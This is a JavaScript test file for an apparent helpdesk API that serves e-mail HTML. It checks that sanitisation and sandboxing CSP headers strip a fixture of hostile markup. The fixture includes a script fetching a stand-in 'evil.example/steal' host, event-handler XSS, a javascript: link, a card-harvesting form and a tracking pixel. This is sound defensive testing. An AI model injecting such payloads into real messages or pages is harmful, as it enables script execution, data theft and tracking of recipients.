// mail-html.test.mjs — GET /api/v1/messages/{id}/html: an e-mail's HTML as a
// document a sandboxed iframe can show: nothing runs, nothing loads unless
// the agent asks for images, and the policy headers say so too.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startHeed } from './lib/heed.mjs';
import { checkedApi } from './lib/openapi.mjs';

let h, api;
before(async () => { h = await startHeed(); api = checkedApi(h); });
after(async () => { await h.stop(); });

const EVIL = '<p>Dear desk,<br>see <a href="https://example.com/order/1">my order</a>.</p>'
  + '<script>fetch("https://evil.example/steal")</script>'
  + '<img src="https://tracker.example/open.gif?u=ann" alt="pixel">'
  + '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
  + '<form action="https://evil.example"><input name="card"></form>'
  + '<iframe src="https://evil.example"></iframe>'
  + '<div style="background:url(https://evil.example/bg.png)" onclick="alert(3)">styled</div>';

test('HTML mail is rewritten and served under a sandboxing policy', async () => {
  const t = await api('POST', '/api/v1/tickets', {
    body: { subject: 'html', requester: { email: 'ann@example.com' }, message: { text: 'Dear desk', html: EVIL } },
  });
  assert.equal(t.status, 201, t.text);
  const m = (await api('GET', `/api/v1/tickets/${t.json.id}/messages`)).json.items[0];
  let r = await api('GET', `/api/v1/messages/${m.id}/html`);
  assert.equal(r.status, 200, r.text);
  assert.match(r.headers.get('content-type'), /^text\/html/);
  const csp = r.headers.get('content-security-policy');
  assert.match(csp, /sandbox/);
  assert.doesNotMatch(csp, /allow-scripts|allow-same-origin/);
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /img-src data:;/);
  assert.match(csp, /frame-ancestors 'self'/);
  assert.equal(r.headers.get('x-frame-options'), 'SAMEORIGIN');
  assert.equal(r.headers.get('x-heed-blocked-images'), '1');
  for (const bad of ['<script', 'onerror', 'onclick', 'javascript:', '<form', '<input', '<iframe',
    'evil.example', ' src="https://tracker']) {
    assert.ok(!r.text.includes(bad), `${bad} in ${r.text}`);
  }
  assert.match(r.text, /href="https:\/\/example.com\/order\/1"/);
  assert.match(r.text, /data-heed-src="https:\/\/tracker.example\/open.gif\?u=ann"/);
  assert.match(r.text, /styled/);

  // the agent asks for images
  r = await api('GET', `/api/v1/messages/${m.id}/html?images=1`);
  assert.equal(r.headers.get('x-heed-blocked-images'), '0');
  assert.match(r.text, / src="https:\/\/tracker.example\/open.gif\?u=ann"/);
  assert.match(r.headers.get('content-security-policy'), /img-src data: https: http:/);
  assert.ok(!r.text.includes('<script'));

  assert.equal((await api('GET', `/api/v1/messages/${m.id}/html?images=yes`)).status, 422);
  const plain = await api('POST', `/api/v1/tickets/${t.json.id}/messages`, { body: { text: 'no html' } });
  assert.equal((await api('GET', `/api/v1/messages/${plain.json.id}/html`)).status, 404);
  assert.equal((await api('GET', '/api/v1/messages/999999/html')).status, 404);
  assert.equal((await h.api('GET', `/api/v1/messages/${m.id}/html`, { token: null })).status, 401);
});
